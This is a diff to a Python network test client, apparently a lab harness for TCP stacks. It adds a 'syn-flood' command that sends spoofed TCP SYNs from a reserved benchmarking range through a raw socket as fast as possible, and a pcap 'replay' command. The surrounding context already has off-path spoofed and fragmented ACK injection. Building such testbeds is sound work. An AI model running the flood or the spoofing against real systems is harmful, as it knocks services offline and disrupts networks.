@@ -35,6 +35,15 @@ frag-acks SRC DST DPORT SPORT COUNT
                        send COUNT ACKs with 12 bytes of data (random numbers) from SRC:SPORT to DST:DPORT, each
                        as two IPv4 fragments, 20 ms apart: what an off-path host that knows a connection's
                        addresses and ports can send; prints {"ev":"sent",...} for each
+syn-flood DST DPORT COUNT
+                       send COUNT TCP SYNs to DST:DPORT from random addresses in 198.18.0.0/15 and random ports
+                       through a raw socket (IP_HDRINCL), as fast as it can: spoofed clients opening connections
+                       that never complete; prints {"ev":"flooded","sent":k,"secs":..}
+replay IFACE PCAP PPS SECS
+                       send the frames of PCAP (classic pcap, Ethernet) out of IFACE through an AF_PACKET socket,
+                       over and over, PPS a second, for SECS seconds (until SIGTERM/SIGINT when SECS is 0); frames
+                       the kernel refuses (e.g. shorter than an Ethernet header) are counted, not fatal; prints
+                       {"ev":"replayed","sent":k,"refused":k,"frames":k} at the end
 Times are seconds since the client started (time.monotonic()).
 """
 import errno
@@ -392,6 +401,65 @@ def frag_acks(src, dst, dport, sport, count):
         time.sleep(0.02)
 
 
+def syn_flood(dst, dport, count):
+    rnd = random.Random(os.getpid())
+    s = raw_sender()
+    da = socket.inet_aton(dst)
+    t0 = time.monotonic()
+    for _ in range(count):
+        sa = struct.pack("!I", (198 << 24 | 18 << 16) + rnd.getrandbits(17))
+        sport, seq = rnd.randrange(1024, 65536), rnd.getrandbits(32)
+        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 65535, 0, 0)
+        csum = checksum(sa + da + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
+        tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
+        s.sendto(ipv4_packet(sa, da, rnd.getrandbits(16), 0x4000, tcp), (dst, 0))
+    emit(ev="flooded", sent=count, secs=round(time.monotonic() - t0, 3))
+
+
+def read_pcap(path):
+    """The frames of a classic pcap file (either byte order, micro- or nanosecond stamps)."""
+    data = open(path, "rb").read()
+    magic = data[:4]
+    if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1"):
+        order = "<"
+    elif magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d"):
+        order = ">"
+    else:
+        sys.exit(f"{path}: not a pcap file")
+    frames, at = [], 24
+    while at + 16 <= len(data):
+        caplen = struct.unpack(order + "I", data[at + 8 : at + 12])[0]
+        frames.append(data[at + 16 : at + 16 + caplen])
+        at += 16 + caplen
+    return frames
+
+
+def replay(iface, path, pps, secs):
+    frames = read_pcap(path)
+    if not frames:
+        sys.exit(f"{path}: no frames")
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind((iface, 0))
+    stop = []
+    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
+    signal.signal(signal.SIGINT, lambda *_: stop.append(1))
+    t0 = time.monotonic()
+    sent = refused = 0
+    batch = max(1, pps // 100)
+    while not stop and (secs <= 0 or time.monotonic() - t0 < secs):
+        for _ in range(batch):
+            try:
+                s.send(frames[(sent + refused) % len(frames)])
+                sent += 1
+            except OSError:
+                refused += 1
+        # Pace to PPS: sleep until the time the frames sent so far are due.
+        ahead = (sent + refused) / pps - (time.monotonic() - t0)
+        if ahead > 0:
+            time.sleep(ahead)
+    emit(ev="replayed", sent=sent, refused=refused, frames=len(frames))
+
+
 if __name__ == "__main__":
     a = sys.argv[1:]
     if a[0] == "server":
@@ -406,5 +474,9 @@ if __name__ == "__main__":
         spoof_acks(a[1], a[2], int(a[3]), int(a[4]), int(a[5]))
     elif a[0] == "frag-acks":
         frag_acks(a[1], a[2], int(a[3]), int(a[4]), int(a[5]))
+    elif a[0] == "syn-flood":
+        syn_flood(a[1], int(a[2]), int(a[3]))
+    elif a[0] == "replay":
+        replay(a[1], a[2], int(a[3]), float(a[4]))
     else:
         sys.exit(__doc__)
